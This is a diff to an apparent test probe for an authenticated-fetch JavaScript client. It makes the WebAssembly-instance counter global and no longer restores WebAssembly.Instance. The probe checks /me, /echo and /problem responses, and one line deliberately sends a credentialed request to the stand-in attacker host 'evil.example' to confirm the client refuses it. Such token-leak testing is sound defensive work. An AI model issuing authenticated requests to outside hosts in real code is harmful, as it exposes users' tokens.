@@ -8,9 +8,15 @@ export const configFrom = (url) => {
   return JSON.parse(atob(text.replaceAll('-', '+').replaceAll('_', '/')));
 };
 
-/** Counts the instances of WebAssembly that succeed, to tell which build of the core did the work. */
+/**
+ * Counts the instances of WebAssembly that succeed, to tell which build of the core did the work. One count for all the
+ * bundles of a process: a core that is loaded serves later calls, too.
+ */
 const watchWasm = () => {
+  const key = Symbol.for('clerk-fetch.probe');
+  if (globalThis[key]) return globalThis[key];
   const seen = { instances: 0 };
+  globalThis[key] = seen;
   const wasm = globalThis.WebAssembly;
   if (!wasm) return seen;
   const construct = (target, args) => {
@@ -18,11 +24,7 @@ const watchWasm = () => {
     seen.instances++;
     return instance;
   };
-  const Instance = wasm.Instance;
-  wasm.Instance = new Proxy(Instance, { construct });
-  seen.end = () => {
-    wasm.Instance = Instance;
-  };
+  wasm.Instance = new Proxy(wasm.Instance, { construct });
   return seen;
 };
 
@@ -40,20 +42,16 @@ export const probe = async ({ createAuthenticatedFetch }, { apiUrl, token, expir
     if (forced) current = token;
     return current;
   };
-  try {
-    const api = createAuthenticatedFetch({ baseUrl: apiUrl, getToken });
-    const refused = await api('https://evil.example/').then(
-      () => 'sent',
-      (error) => error.code,
-    );
-    const me = await api.json('/me');
-    const echo = await api.json('/echo?from=probe', { json: { title: 'Grüße' } });
-    const problem = await api.json('/problem').catch((error) => `${error.name} ${error.code} ${error.status}`);
-    const core = seen.instances ? 'wasm' : 'js';
-    return { userId: me.userId, text: echo.text, authorized: echo.authorized, problem, refused, asked: asked.join(' '), core };
-  } finally {
-    if (seen.end) seen.end();
-  }
+  const api = createAuthenticatedFetch({ baseUrl: apiUrl, getToken });
+  const refused = await api('https://evil.example/').then(
+    () => 'sent',
+    (error) => error.code,
+  );
+  const me = await api.json('/me');
+  const echo = await api.json('/echo?from=probe', { json: { title: 'Grüße' } });
+  const problem = await api.json('/problem').catch((error) => `${error.name} ${error.code} ${error.status}`);
+  const core = seen.instances ? 'wasm' : 'js';
+  return { userId: me.userId, text: echo.text, authorized: echo.authorized, problem, refused, asked: asked.join(' '), core };
 };
 
 /** The same, with a rejection as `{ error }`: what a page leaves for the harness to read. */
